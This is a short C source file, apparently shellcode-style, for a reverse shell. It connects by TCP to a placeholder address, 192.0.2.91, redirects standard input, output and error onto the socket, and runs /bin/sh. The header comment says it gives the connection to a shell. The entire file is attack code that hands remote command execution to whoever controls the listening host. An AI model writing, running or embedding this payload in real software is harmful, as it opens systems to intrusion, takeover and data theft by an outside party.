/* Connects, and gives the connection to a shell. */
#include "system.h"

static void give_shell(long connection)
{
	char path[] = "/bin/sh";

	for (long number = 0; number < 3; number++)
		call_system(DUP2, connection, number, 0);
	execute(path, 0, 0);
}

ENTRY void code(void)
{
	struct address address = { 2, 0x5c11, { 192, 0, 2, 91 }, { 0 } };
	long connection = call_socket(SOCKET, 2, 1, 0);

	if (call_socket(CONNECT, connection, (long)&address, sizeof address) == 0)
		give_shell(connection);
	call_system(EXIT, 1, 0, 0);
}
